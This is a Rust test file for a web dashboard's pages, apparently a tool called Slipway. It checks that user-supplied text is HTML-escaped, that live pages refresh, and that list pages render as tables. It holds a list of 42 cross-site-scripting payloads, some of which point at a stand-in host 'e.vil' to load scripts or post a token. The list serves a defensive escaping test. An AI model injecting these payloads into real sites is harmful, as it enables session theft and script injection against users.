//! What pages show, and that words of others stay words there.

use std::cell::Cell;

use super::super::sample::{self, T};
use super::*;
use crate::policy::Policy;

const EVIL: &str = "<script>alert('x')</script>\" onload=x\u{202e}";

fn rows() -> Vec<TimelineRow> {
    let row = |number, ignored: Option<&str>| TimelineRow {
        number,
        at: T.plus(60_000),
        what: format!("{EVIL} {number}"),
        after: "ci: waiting".to_owned(),
        ignored: ignored.map(str::to_owned),
    };
    vec![row(1, None), row(2, Some("ignored: not now"))]
}

fn audits() -> Vec<Audit> {
    vec![Audit {
        at: T.plus(60_000),
        act: crate::model::Act::Push,
        who: EVIL.to_owned(),
        run: None,
        repo: None,
        head: None,
        tree: None,
        digest: None,
        verdict: EVIL.to_owned(),
    }]
}

#[test]
fn words_of_others_stay_words() {
    let mut state = sample::verifying();
    state.work.plan = Some(EVIL.to_owned());
    state.work.summary = Some(EVIL.to_owned());
    let request = std::sync::Arc::make_mut(&mut state.request);
    request.title = EVIL.to_owned();
    request.by.login = EVIL.to_owned();
    let links = sample::links();
    let policy = Policy::default();
    let context = Context::new(&state, &policy, &links);
    let page = run_page(&context, (&rows(), &audits(), &[]), None);
    assert!(!page.contains("<script") && !page.contains("\" onload"));
    assert!(page.contains("&lt;script&gt;") && !page.contains('\u{202e}'));
    assert!(page.contains("ignored: not now"));
}

#[test]
fn a_live_page_loads_itself_again_and_a_finished_one_does_not() {
    let load = |state: crate::pipeline::State| {
        let (links, policy) = (sample::links(), Policy::default());
        run_page(&Context::new(&state, &policy, &links), (&rows(), &[], &[]), Some(5))
    };
    assert!(load(sample::verifying()).contains(r#"http-equiv="refresh" content="5""#));
    assert!(!load(sample::merged()).contains("refresh"));
}

#[test]
fn the_current_stage_is_announced() {
    let links = sample::links();
    let policy = Policy::default();
    let state = sample::waiting_for_ci();
    let page = run_page(&Context::new(&state, &policy, &links), (&[], &[], &[]), None);
    assert!(page.contains(r#"<li class="waiting" aria-current="step">ci <span"#), "{page}");
    assert!(page.contains(r#"<li class="skipped">verify"#));
    assert_eq!(page.matches("aria-current").count(), 1);
}

#[test]
fn the_list_is_a_table_with_headings() {
    let empty = list_page(&[], None).replace("><", ">\n<");
    insta::assert_snapshot!(sample::shown(&empty), @r#"
    <!DOCTYPE html>
    <html lang="en">
    <head>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <meta name="color-scheme" content="light dark">
    <meta name="referrer" content="no-referrer">
    <title>Runs · Slipway</title>
    <link rel="stylesheet" href="/slipway.css">
    </head>
    <body>
    <header>
    <a class="brand" href="/">Slipway</a>
    </header>
    <main>
    <h1>Runs</h1>
    <p>There is no run yet. A comment <code>/go</code> on an issue starts one.</p>
    </main>
    </body>
    </html>
    "#);
    let row = ListRow {
        run: sample::request().run,
        repo: sample::request().repo,
        issue: IssueNumber(12),
        title: "a <b>".to_owned(),
        pull: None,
        at_stage: "ci".to_owned(),
        live: true,
        opened: T,
        moved: T.plus(1_000),
    };
    let many = vec![row; ROWS_MAX + 1];
    let page = list_page(&many, None);
    assert_eq!(page.matches("<tr>").count(), ROWS_MAX + 1);
    assert!(page.contains("#12 a &lt;b&gt;"));
}

thread_local! {
    /// Takes the escaping away, to prove that it is needed.
    pub(super) static RAW: Cell<bool> = const { Cell::new(false) };
}

/// Texts that did something in pages of others.
const PAYLOADS: [&str; 42] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//e.vil/x></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<form action=https://e.vil><input name=token>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//e.vil/x.css>",
    "<style>@import '//e.vil/x.css'</style>",
    "<meta http-equiv=refresh content=\"0;url=//e.vil\">",
    "<base href=//e.vil/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</title><script>alert(1)</script>",
    "</pre></details><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "<\u{200b}script>alert(1)</script>",
    "\u{1b}]8;;javascript:alert(1)\u{7}<b>x</b>\u{1b}]8;;\u{7}",
    "{{constructor.constructor('alert(1)')()}}<p v-html=x>",
];

/// Every tag of a page, in order.
fn tags(page: &str) -> Vec<String> {
    let opened = page.split('<').skip(1);
    opened.map(|rest| rest.split('>').next().unwrap_or_default().to_owned()).collect()
}

/// A page with `text` wherever others can put one.
fn page_saying(text: &str) -> String {
    let mut state = sample::fixing();
    state.work.plan = Some(text.to_owned());
    state.work.summary = Some(text.to_owned());
    state.work.complaint = Some(Complaint::Verification { log: text.to_owned() });
    state.held_by = Some(sample::user(text));
    let request = std::sync::Arc::make_mut(&mut state.request);
    request.title = text.to_owned();
    request.by.login = text.to_owned();
    let row = TimelineRow {
        number: 1,
        at: T,
        what: text.to_owned(),
        after: text.to_owned(),
        ignored: None,
    };
    let mut audits = audits();
    for line in &mut audits {
        (line.who, line.verdict) = (text.to_owned(), text.to_owned());
    }
    let (links, policy) = (sample::links(), Policy::default());
    let context = Context::new(&state, &policy, &links);
    let list = ListRow {
        run: state.request.run.clone(),
        repo: state.request.repo.clone(),
        issue: state.request.issue,
        title: text.to_owned(),
        pull: None,
        at_stage: text.to_owned(),
        live: true,
        opened: T,
        moved: T,
    };
    format!("{}{}", run_page(&context, (&[row], &audits, &[]), None), list_page(&[list], None))
}

#[test]
fn attack_53_no_text_adds_a_tag_to_a_page() {
    let plain = tags(&page_saying("a plain text"));
    assert!(plain.len() > 100);
    let mut acted = 0;
    for payload in PAYLOADS {
        let page = page_saying(payload);
        assert_eq!(tags(&page), plain, "{payload}");
        assert!(!page.contains('\u{1b}') && !page.contains('\u{200b}') && !page.contains('\0'));
        RAW.set(true);
        acted += usize::from(tags(&page_saying(payload)) != plain);
        RAW.set(false);
    }
    assert_eq!(acted, PAYLOADS.len() - 2, "all but the two that need an attribute");
}
